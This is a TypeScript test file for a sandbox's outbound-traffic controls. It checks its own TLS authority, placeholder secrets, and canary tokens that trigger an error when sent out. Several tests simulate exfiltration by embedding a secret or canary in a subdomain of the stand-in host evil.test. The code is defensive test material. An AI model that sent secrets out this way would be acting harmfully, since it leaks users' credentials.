import { X509Certificate } from "node:crypto";
import { describe, expect, it } from "vitest";
import type { BrigError } from "../../../../../src/errors.js";
import type { EgressSettings } from "../../../../../src/sandbox/policy/egress-schema.js";
import { failure } from "../../played-sandbox.js";
import { asks, egressPlace, execAsking } from "./played-egress.js";
import { decodeSpawn, PlayedImage } from "./trust/played-image.js";

const EACCES = 13;
const SECRET = "a-real-secret-0123456789";
const AUTHORITY = "/dev/shm/brig-authority.pem";
const secrets = { KEY: { hosts: ["a.test"], value: SECRET } };
const awsKeys = {
  AWS: {
    hosts: ["*.amazonaws.com"],
    access_key_id: { value: "AKIAIOSFODNN7EXAMPLE" },
    secret_access_key: { value: SECRET },
  },
};
const rules = [{ host: "a.test", methods: ["GET"] }];
const canaries = { trap: { form: "token", variable: "TRAP" } } as const;

async function place(
  egress: EgressSettings,
  { files = new PlayedImage(), program = "curl" as string | null } = {},
) {
  return { ...(await egressPlace({ egress, files, program })), files };
}

function variablesIn(command: { payload: string } | undefined) {
  const { env } = decodeSpawn(Buffer.from(command?.payload ?? "", "latin1"));
  return (name: string) => env.find((one) => one.startsWith(`${name}=`))?.slice(name.length + 1) ?? null;
}

/** The variables of the first command, each with its value. */
async function variablesOf({ sandbox, commands, runner }: Awaited<ReturnType<typeof place>>) {
  const call = sandbox.exec(["true"]);
  await expect.poll(() => commands.length).toBe(1);
  const [command] = commands;
  runner.exit(command?.channel ?? 0);
  await call;
  return variablesIn(command);
}

describe("a sandbox whose requests are looked into", () => {
  it.each<[string, EgressSettings]>([
    ["rules", { rules }],
    ["secrets", { secrets }],
    ["keys of AWS", { aws_keys: awsKeys }],
    ["as many rules as secrets and keys", { rules, secrets, aws_keys: awsKeys }],
    ["as many rules as secrets", { rules, secrets }],
    ["as many secrets as keys", { secrets, aws_keys: awsKeys }],
  ])("because of %s trusts an authority of its own", async (_, egress) => {
    const one = await place(egress);
    const certificate = new X509Certificate(one.files.written.get(AUTHORITY)?.text ?? "");
    expect(certificate.ca).toBe(true);
    expect(certificate.verify(certificate.publicKey)).toBe(true);
    const variable = await variablesOf(one);
    expect(variable("SSL_CERT_FILE")).toBe("/dev/shm/brig-certificates.pem");
    await one.sandbox.close();
  });

  it("has another authority than every other sandbox", async () => {
    const [one, other] = [await place({ rules }), await place({ rules })];
    const [first, second] = [one, other].map(({ files }) => files.written.get(AUTHORITY)?.text);
    expect(first).toContain("BEGIN CERTIFICATE");
    expect(second).not.toBe(first);
    await one.sandbox.close();
    await other.sandbox.close();
  });

  it("has placeholders in place of secrets and keys", async () => {
    const one = await place({ secrets, aws_keys: awsKeys });
    const variable = await variablesOf(one);
    expect(variable("KEY")).toMatch(/^[\w-]{20,}$/);
    expect(variable("AWS_ACCESS_KEY_ID")).toMatch(/^AKIA[A-Z2-7]{16}$/);
    expect(one.commands[0]?.payload).not.toContain(SECRET);
    expect([...one.files.written.values()].map(({ text }) => text).join()).not.toContain(SECRET);
    await one.sandbox.close();
  });

  it("does not show a secret that a program asks for as a host", async () => {
    const one = await place({ secrets: { KEY: { hosts: ["a.test"], value: "hidden0123456789" } } });
    const { result } = await execAsking(one, "hidden0123456789.evil.test");
    expect(one.attempts).toMatchObject([{ host: `${"*".repeat(16)}.evil.test` }]);
    expect(result.stderr).toContain(`${"*".repeat(16)}.evil.test`);
    expect(JSON.stringify(result)).not.toContain("hidden");
    await one.sandbox.close();
  });

  it("is not opened where the authority cannot be written", async () => {
    const files = new PlayedImage();
    files.fails = (operation) => (operation === "write" ? EACCES : 0);
    expect(await failure(place({ rules }, { files }))).toMatchObject({
      code: "policy.not-enforced",
      cause: expect.objectContaining({ code: "file.not-permitted" }),
    });
  });
});

describe("a sandbox with canaries", () => {
  it("and nothing to look into has its connections left alone", async () => {
    const one = await place({ canaries });
    expect(one.files.requests).toEqual([]);
    const variable = await variablesOf(one);
    expect(variable("TRAP")).toMatch(/^[A-Za-z0-9]{40}$/);
    expect(variable("SSL_CERT_FILE")).toBeNull();
    await one.sandbox.close();
  });

  it("has each in its file before the first command, which only its user reads", async () => {
    const one = await place({
      canaries: {
        first: { form: "token", file: "/home/brig/token" },
        none: { form: "token", variable: "TRAP" },
        second: { form: "github-token", file: "/home/brig/other" },
      },
    });
    expect(one.commands).toEqual([]);
    expect([...one.files.written]).toEqual([
      ["/home/brig/token", expect.objectContaining({ mode: 0o600 })],
      ["/home/brig/other", expect.objectContaining({ mode: 0o600 })],
    ]);
    expect(one.files.written.get("/home/brig/other")?.text).toMatch(/^ghp_[A-Za-z0-9]{36}\n$/);
    await one.sandbox.close();
  });

  it("of which one cannot be written is not opened, and the error says which", async () => {
    const files = new PlayedImage();
    files.fails = (_operation, path) => (path === "/none/token" ? EACCES : 0);
    const outcome = failure(place({ canaries: { trap: { form: "token", file: "/none/token" } } }, { files }));
    expect(await outcome).toMatchObject({
      code: "usage.invalid",
      message: "the canary trap cannot be written to /none/token",
      hint: expect.stringContaining("directory that exists"),
      cause: expect.objectContaining({ code: "file.not-permitted" }),
    });
  });

  it("fails every command from the first attempt to send one on, and tells who tried", async () => {
    const one = await place({ canaries });
    const { sandbox, opened, runner, commands } = one;
    const told: Promise<BrigError>[] = [];
    sandbox.watchEgress(() => undefined, { onCanarySent: (error) => void told.push(error) });
    sandbox.watchEgress(() => undefined, { onCanarySent: (error) => void told.push(error) });
    await opened.egress?.requireNoCanarySent();
    const call = failure(sandbox.exec(["sh"], { callId: "call-7" }));
    await expect.poll(() => commands.length).toBe(1);
    const variable = variablesIn(commands[0]);
    expect(await asks(runner, `${variable("TRAP")}.evil.test`)).toContain("403");
    await expect.poll(() => told.length).toBe(2);
    const error = await told[0];
    expect(error).toMatchObject({
      code: "sandbox.canary-sent",
      message: expect.stringContaining(
        'the program "curl" of the call call-7 tried to send the canary trap to ',
      ),
      hint: expect.stringContaining("nothing else leaves"),
    });
    expect(await told[1]).toBe(error);
    runner.exit(commands[0]?.channel ?? 0);
    expect(await call).toBe(error);
    expect(await failure(opened.egress?.requireNoCanarySent() ?? Promise.resolve())).toBe(error);
    expect(opened.egress?.hosts).toEqual([]);
    await sandbox.close();
  });

  it.each([
    [null, "a program"],
    ["a\n\x1b[31m", 'the program "a??[31m"'],
  ])("says of the program %j that it is %s", async (program, by) => {
    const one = await place({ canaries }, { program });
    const told: Promise<BrigError>[] = [];
    one.sandbox.watchEgress(() => undefined, { onCanarySent: (error) => void told.push(error) });
    const variable = await variablesOf(one);
    await asks(one.runner, `${variable("TRAP")}.evil.test`);
    await expect.poll(() => told.length).toBe(1);
    const { message } = (await told[0]) ?? {};
    expect(message).toContain(`${by} tried to send the canary trap to `);
    expect(message?.startsWith(by)).toBe(true);
    await one.sandbox.close();
  });
});

describe("the calls whose connections are known", () => {
  it.each([
    [20_000, "the first"],
    [20_001, null],
  ])("of %d are the newest 20 000, so that the first is %j", async (count, callId) => {
    const one = await egressPlace();
    for (let channel = 0; channel < count; channel++)
      one.opened.egress?.nameCall(channel, channel === 0 ? "the first" : "another");
    await asks(one.runner, "evil.test");
    await expect.poll(() => one.attempts).toMatchObject([{ owner: { channel: 0, callId } }]);
    await one.sandbox.close();
  });
});
